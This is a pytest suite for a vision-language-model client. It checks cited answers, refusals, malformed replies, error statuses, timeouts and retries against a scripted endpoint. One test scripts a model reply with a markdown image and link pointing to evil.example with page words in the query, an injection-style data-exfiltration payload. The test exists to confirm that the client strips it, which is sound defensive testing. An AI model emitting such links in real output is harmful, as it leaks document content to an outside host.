"""The client against a real HTTP server that speaks chat completions and plays scripted replies."""

from collections.abc import Callable, Iterator

import pytest

from answer.answers import NOT_FOUND, EvidencePage, Usage
from answer.vlm import VlmClient
from index.errors import VlmUnavailable
from tests.endpoint import Endpoint, scripted_endpoint

MakePage = Callable[..., EvidencePage]
LINES = ("The bridge was opened in 1931.", "It has seven arches.")


@pytest.fixture
def endpoint() -> Iterator[Endpoint]:
    with scripted_endpoint() as played:
        yield played


def client(endpoint: Endpoint, timeout_s: float = 10.0) -> VlmClient:
    return VlmClient(endpoint.url, "tiny", "key", timeout_s, max_retries=0)


def test_an_answer_comes_back_with_its_quote_found_on_the_page(
    endpoint: Endpoint, make_page: MakePage
) -> None:
    endpoint.answers("It was opened in 1931.", ("P2", "opened in 1931"))

    answer = client(endpoint).answer("When?", [make_page("Other words"), make_page(*LINES, page=2)])

    assert answer.text == "It was opened in 1931."
    assert answer.grounded
    assert not answer.refused
    assert [(c.page, c.quote) for c in answer.citations] == [(2, "opened in 1931.")]
    assert answer.model == "tiny"
    assert answer.usage == Usage(900, 30)


def test_the_request_is_a_chat_completion_at_temperature_zero(
    endpoint: Endpoint, make_page: MakePage
) -> None:
    endpoint.answers("Seven.", ("P1", "seven arches"))

    client(endpoint).answer("How many arches?", [make_page(*LINES)])

    (asked,) = endpoint.asked
    assert asked["path"] == "/v1/chat/completions"
    assert asked["temperature"] == 0
    assert asked["model"] == "tiny"
    assert asked["messages"][1]["content"][-1]["text"] == "Question: How many arches?"


@pytest.mark.parametrize(
    "quote",
    [("P1", "opened in 1932"), ("P2", "opened in 1931"), ("P9", "opened in 1931"), ("P1", "")],
)
def test_a_quote_that_the_page_does_not_hold_is_dropped(
    endpoint: Endpoint, make_page: MakePage, quote: tuple[str, str]
) -> None:
    endpoint.answers("It was opened in 1931.", quote)

    answer = client(endpoint).answer("When?", [make_page(*LINES), make_page("Other words", page=2)])

    assert answer.citations == ()
    assert not answer.grounded
    assert not answer.refused


def test_the_same_quote_twice_is_one_citation(endpoint: Endpoint, make_page: MakePage) -> None:
    endpoint.answers("Seven.", ("P1", "seven arches"), ("P1", "Seven arches."))

    assert len(client(endpoint).answer("How many?", [make_page(*LINES)]).citations) == 1


def test_a_model_that_finds_no_answer_is_a_refusal(endpoint: Endpoint, make_page: MakePage) -> None:
    endpoint.answers("The pages do not say.", answerable=False)

    answer = client(endpoint).answer("Who paid for it?", [make_page(*LINES)])

    assert answer.refused
    assert answer.text == NOT_FOUND
    assert answer.usage == Usage(900, 30)


def test_injected_images_and_links_do_not_leave_the_model(
    endpoint: Endpoint, make_page: MakePage
) -> None:
    endpoint.answers("1931 ![](https://evil.example/?q=words) [more](https://evil.example)")

    assert client(endpoint).answer("When?", [make_page(*LINES)]).text == "1931 more"


@pytest.mark.parametrize("status", [400, 401, 404, 429, 500, 503])
def test_an_error_status_is_unavailable(
    endpoint: Endpoint, make_page: MakePage, status: int
) -> None:
    endpoint.status = status
    endpoint.body = '{"error": {"message": "no"}}'

    with pytest.raises(VlmUnavailable, match=str(status)):
        client(endpoint).answer("When?", [make_page(*LINES)])


@pytest.mark.parametrize(
    "body",
    [
        "",
        "garbage",
        "[]",
        "null",
        "{}",
        '{"choices": []}',
        '{"choices": null}',
        '{"choices": [{}]}',
    ],
)
def test_a_body_that_is_no_completion_is_unavailable(
    endpoint: Endpoint, make_page: MakePage, body: str
) -> None:
    endpoint.body = body

    with pytest.raises(VlmUnavailable):
        client(endpoint).answer("When?", [make_page(*LINES)])


@pytest.mark.parametrize("text", ["", "It was 1931.", "{", '{"answer": null}'])
def test_a_reply_without_the_json_asked_for_is_unavailable(
    endpoint: Endpoint, make_page: MakePage, text: str
) -> None:
    endpoint.says(text)

    with pytest.raises(VlmUnavailable, match="JSON"):
        client(endpoint).answer("When?", [make_page(*LINES)])


def test_an_endpoint_that_takes_too_long_is_unavailable(
    endpoint: Endpoint, make_page: MakePage
) -> None:
    endpoint.delay_s = 0.5
    endpoint.answers("late")

    with pytest.raises(VlmUnavailable, match=r"longer than 0\.05 s"):
        client(endpoint, timeout_s=0.05).answer("When?", [make_page(*LINES)])


def test_an_endpoint_that_is_not_there_is_unavailable(make_page: MakePage) -> None:
    nobody = VlmClient("http://127.0.0.1:9/v1", "tiny", "key", 2.0, max_retries=0)

    with pytest.raises(VlmUnavailable, match="cannot be reached"):
        nobody.answer("When?", [make_page(*LINES)])


def test_a_failed_call_is_tried_again_when_asked_to(
    endpoint: Endpoint, make_page: MakePage
) -> None:
    endpoint.status = 500

    with pytest.raises(VlmUnavailable):
        VlmClient(endpoint.url, "tiny", "key", 10.0, max_retries=1).answer(
            "When?", [make_page(*LINES)]
        )

    assert len(endpoint.asked) == 2


def test_messages_of_any_kind_are_answered_with_what_the_model_writes(endpoint: Endpoint) -> None:
    endpoint.says("Seven questions.")
    assert client(endpoint).reply([{"role": "user", "content": "Ask!"}]) == "Seven questions."
    assert endpoint.asked[0]["messages"] == [{"role": "user", "content": "Ask!"}]


def test_messages_that_get_no_completion_are_unavailable(endpoint: Endpoint) -> None:
    endpoint.body = "{}"
    with pytest.raises(VlmUnavailable, match="did not reply"):
        client(endpoint).reply([{"role": "user", "content": "Ask!"}])
